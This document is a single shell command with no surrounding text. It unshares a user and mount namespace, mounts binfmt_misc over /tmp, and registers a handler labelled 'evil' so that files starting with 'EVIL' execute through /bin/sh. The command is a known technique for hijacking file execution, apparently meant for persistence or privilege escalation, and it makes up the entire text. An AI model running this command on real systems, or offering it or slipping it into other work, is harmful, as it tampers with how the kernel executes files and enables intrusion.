unshare --user --map-root-user --mount sh -c 'mkdir -p /run/d45 2>/dev/null; mount -t binfmt_misc b /tmp && echo ":evil:M::EVIL::/bin/sh:" >/tmp/register'
